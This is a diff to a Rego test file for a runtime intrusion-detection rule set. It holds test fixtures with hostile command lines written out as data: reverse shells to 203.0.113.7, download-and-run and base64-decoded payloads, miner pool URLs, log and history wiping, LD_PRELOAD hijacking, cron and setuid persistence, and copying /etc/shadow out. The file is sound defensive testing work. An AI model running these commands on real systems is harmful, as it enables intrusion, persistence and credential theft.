@@ -181,10 +181,16 @@ nonempty_array(a) if {
 
 # Tools matched by name in a container: busybox applets and renamed
 # copies too.
+# Each `fires` evaluates every rule package (README.md, "regorus
+# workarounds"): at most three per test keep each test well inside the
+# test time limit on a slow machine.
 test_names_in_a_container_trigger_their_rules if {
 	fires("netcat_in_container", fx.container_exec("/bin/busybox", ["nc", "-lp", "4444"]))
 	fires("container_admin_tool", fx.container_exec("/usr/local/bin/kubectl", ["kubectl", "get", "secrets", "-A"]))
 	fires("network_scanner_in_container", fx.container_exec("/usr/bin/nmap", ["nmap", "-sS", "10.96.0.0/12"]))
+}
+
+test_kernel_modules_and_packages_in_a_container_trigger_their_rules if {
 	fires("kernel_module_in_container", fx.container_exec("/usr/bin/kmod", ["insmod", "/tmp/r.ko"]))
 	fires("package_manager_in_container", fx.container_exec("/usr/bin/python3.12", ["python3", "-m", "pip", "install", "x"]))
 }
@@ -197,7 +203,11 @@ test_container_escape_triggers if {
 
 test_tools_anywhere_trigger_their_rules if {
 	fires("tunnel_tool", fx.host_exec("/tmp/chisel", ["/tmp/chisel", "client", "203.0.113.7:8000", "R:socks"]))
+	fires("tunnel_tool", fx.host_exec("/usr/local/bin/cloudflared", ["cloudflared", "tunnel"]))
 	fires("crypto_miner", fx.host_exec("/opt/xmrig", ["xmrig", "-c", "config.json"]))
+}
+
+test_miners_by_their_arguments_trigger if {
 	fires("crypto_miner", fx.host_exec("/tmp/kswapd0", ["kswapd0", "-o", "stratum+tcp://203.0.113.7:3333"]))
 	fires("crypto_miner", fx.host_exec("/tmp/s", ["s", "--url=gulf.moneroocean.stream:10128"]))
 }
@@ -206,19 +216,48 @@ test_reverse_shells_trigger if {
 	fires("reverse_shell", fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]))
 	fires("reverse_shell", fx.host_exec("/bin/sh", ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"]))
 	fires("reverse_shell", fx.host_exec("/usr/bin/ncat", ["ncat", "203.0.113.7", "4444", "-e", "/bin/sh"]))
+}
+
+test_reverse_shell_one_liners_trigger if {
 	fires("reverse_shell", fx.host_exec("/usr/bin/socat", ["socat", "EXEC:bash -li,pty,stderr", "TCP:203.0.113.7:4444"]))
 	fires("reverse_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"]))
+	fires("reverse_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]))
+}
+
+test_shell_spawns_and_busybox_applets_trigger if {
+	fires("reverse_shell", fx.host_exec("/usr/bin/awk", ["awk", "BEGIN{system(\"/bin/sh\")}"]))
+	fires("reverse_shell", fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "1"]))
+	fires("netcat_in_container", fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "1"]))
 }
 
 # Shell -c scripts, plain and through busybox.
 test_shell_scripts_trigger_their_rules if {
 	fires("download_piped_to_shell", fx.container_exec("/bin/busybox", ["sh", "-c", "wget -qO- http://203.0.113.7/i | sh"]))
+	fires("download_piped_to_shell", fx.host_exec("/bin/sh", ["sh", "-c", "curl -o /tmp/x http://203.0.113.7/x && chmod +x /tmp/x"]))
 	fires("decoded_payload_to_shell", fx.host_exec("/bin/sh", ["sh", "-c", "echo aWQK | base64 -d | bash"]))
+}
+
+test_decoded_payloads_and_memory_reads_trigger if {
 	fires("decoded_payload_to_shell", fx.host_exec("/usr/bin/python3", ["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"]))
-	fires("history_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", "unset HISTFILE"]))
+	fires("process_memory_read", fx.host_exec("/bin/sh", ["sh", "-c", "dd if=/proc/$PID/mem of=/tmp/m"]))
+	fires("process_memory_read", fx.host_exec("/usr/bin/gdb", ["gdb", "-p", "1"]))
+}
+
+test_history_rules_trigger if {
+	fires("history_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", "history -c"]))
 	fires("history_tampering", fx.host_exec("/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"]))
+	fires("history_disabled", fx.host_exec("/usr/bin/bash", ["bash", "-c", "unset HISTFILE"]))
+}
+
+test_history_disabled_in_argv_and_log_tampering_trigger if {
+	fires("history_disabled", fx.host_exec("/usr/bin/env", ["env", "HISTSIZE=0", "bash"]))
 	fires("log_tampering", fx.host_exec("/usr/bin/bash", ["bash", "-c", ": > /var/log/syslog"]))
 	fires("log_tampering", fx.host_exec("/usr/bin/shred", ["shred", "-u", "/var/log/auth.log"]))
+}
+
+test_scripts_from_writable_dirs_trigger if {
+	fires("shell_script_from_writable_dir", fx.container_exec("/bin/busybox", ["busybox", "sh", "/tmp/x.sh"]))
+	fires("python_script_from_writable_dir", fx.host_exec("/usr/bin/python3.12", ["python3", "/dev/shm/x.py"]))
 }
 
 test_shell_under_a_service_triggers if {
@@ -244,6 +283,41 @@ test_ai_agent_rules_trigger if {
 	fires("ai_agent_package_manager", pip)
 	curl := fx.with_ancestors(fx.host_connect("::ffff:169.254.169.254", 80), ["/usr/bin/bash", "/usr/local/bin/claude"])
 	fires("ai_agent_metadata", curl)
+}
+
+test_environment_rules_trigger if {
+	preload := fx.with_process(fx.host_exec("/usr/bin/id", ["id"]), {"env": {"LD_PRELOAD": "/tmp/x.so"}})
+	fires("loader_hijack", preload)
+	nohist := fx.with_process(fx.host_exec("/usr/bin/bash", ["bash"]), {"env": {"HISTFILE": "/dev/null"}})
+	fires("history_disabled", nohist)
+	not triggers.triggered({"triggers": [{"env": ["LD_PRELOAD"]}]}) with input as nohist
+	not triggers.triggered({"triggers": [{"env": ["LD_PRELOAD"]}]}) with input as exec("/usr/bin/id", ["id"])
+}
+
+test_scheduled_tasks_trigger if {
+	fires("cron_job_created", fx.host_exec("/usr/bin/crontab", ["crontab", "/tmp/c"]))
+	fires("at_job_created", fx.host_exec("/usr/bin/at", ["at", "now"]))
+	fires("systemd_timer_created", fx.host_exec("/usr/bin/systemd-run", ["systemd-run", "--on-active=5", "id"]))
+}
+
+test_cron_written_by_a_shell_triggers if {
+	fires("cron_job_created", fx.host_exec("/bin/sh", ["sh", "-c", "echo x >> /etc/crontab"]))
+}
+
+test_account_rules_trigger if {
+	fires("account_created", fx.container_exec("/bin/busybox", ["busybox", "adduser", "-D", "x"]))
+	fires("account_modified", fx.host_exec("/usr/sbin/usermod", ["usermod", "-aG", "sudo", "x"]))
+}
+
+test_setid_rules_trigger if {
+	fires("setuid_bit_set", fx.host_exec("/usr/bin/chmod", ["chmod", "4755", "/tmp/x"]))
+	fires("setuid_program_unexpected", fx.with_process(fx.host_exec("/tmp/x", ["x"]), {"uid": 1000, "euid": 0}))
+}
+
+test_transfer_rules_trigger if {
+	fires("file_transfer_out", fx.host_exec("/usr/bin/scp", ["scp", "/etc/shadow", "h:/tmp"]))
+	fires("http_file_server", fx.host_exec("/usr/bin/python3", ["python3", "-m", "http.server"]))
+	fires("http_file_server", fx.container_exec("/bin/busybox", ["busybox", "httpd", "-f"]))
 }
 
 test_network_rules_trigger if {
